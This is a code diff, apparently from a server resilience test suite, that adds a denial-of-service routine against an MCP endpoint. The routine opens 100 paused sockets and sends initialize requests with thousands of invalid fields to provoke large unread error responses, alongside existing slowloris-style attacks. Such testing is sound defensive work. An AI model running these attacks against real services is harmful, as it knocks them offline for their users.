@@ -209,6 +209,19 @@ const unfinishedHeaders: Attack = async (target) => {
   return outcomeForVisitor(target, sockets.length);
 };
 
+/** Messages with thousands of mistakes, which the library of the protocol describes one by one, from clients that do not read the answers. */
+const largeMcpErrors: Attack = async (target) => {
+  const clientInfo = { name: 'x', version: '1', icons: Array.from({ length: 3900 }, () => 1) };
+  const params = { protocolVersion: '2025-06-18', capabilities: {}, clientInfo };
+  const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params });
+  const accept = 'Content-Type: application/json\r\nAccept: application/json, text/event-stream';
+  const sockets = await Promise.all(Array.from({ length: 100 }, () => open(target)));
+  for (const socket of sockets)
+    socket.pause().write(`POST /mcp HTTP/1.1\r\nHost: x\r\n${accept}\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
+  await wait(5000);
+  return outcomeForVisitor(target, sockets.length);
+};
+
 const slowBodies: Attack = async (target) => {
   const sockets = await Promise.all(Array.from({ length: 2000 }, () => open(target)));
   for (const socket of sockets) socket.write('POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 15000\r\n\r\n{"prompt":"');
@@ -395,6 +408,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'slow readers': slowReaders,
   'many header fields': manyFields,
   'unfinished headers': unfinishedHeaders,
+  'large MCP errors': largeMcpErrors,
   'slow bodies': slowBodies,
   'bodies of tiny chunks': tinyChunks,
   'chunks at once': chunksAtOnce,
